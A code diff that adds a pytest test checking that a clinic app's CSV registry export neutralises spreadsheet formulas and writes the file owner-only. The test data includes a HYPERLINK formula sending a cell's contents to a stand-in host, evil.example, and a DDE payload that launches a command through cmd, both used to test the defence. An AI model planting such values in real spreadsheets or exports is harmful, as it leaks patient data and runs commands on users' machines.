@@ -60,3 +60,27 @@ def test_unknown_care_manager_is_one_plain_line(build, clinic, clinic_path, monk
     clinic.close()
     code, out, err = _run(clinic_path, monkeypatch, capsys, "--care-manager", "nobody")
     assert code == 3 and out == "" and err.startswith("Refused:") and "Traceback" not in err
+
+
+def test_registry_csv_neutralises_formulas_and_replaces_an_open_file_owner_only(
+    build, clinic, clinic_path, tmp_path, monkeypatch, capsys, permissive_umask  # type: ignore[no-untyped-def]
+) -> None:
+    from sqlalchemy import update
+
+    from cocm_desktop.store.models import Patient
+
+    build.now = datetime.now().replace(microsecond=0)
+    build.episode(TODAY - timedelta(days=40), baseline=14, family='=HYPERLINK("http://evil.example/?"&C2,"x")')
+    with clinic.session() as s:
+        s.execute(update(Patient).values(mrn="@SUM(1+1)*cmd|' /C calc'!A0"))
+    clinic.close()
+    target = tmp_path / "reg.csv"
+    target.write_text("an older export")
+    target.chmod(0o644)  # e.g. copied in by hand: the export must not stay world-readable
+    code, _, _ = _run(clinic_path, monkeypatch, capsys, "--csv", str(target))
+    assert code == 0
+    (row,) = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
+    assert row["Patient"] == "'=HYPERLINK(\"http://evil.example/?\"&C2,\"x\"), Jane"
+    assert row["MRN"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["Baseline PHQ-9"] == "14"
+    assert target.stat().st_mode & 0o777 == 0o600
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
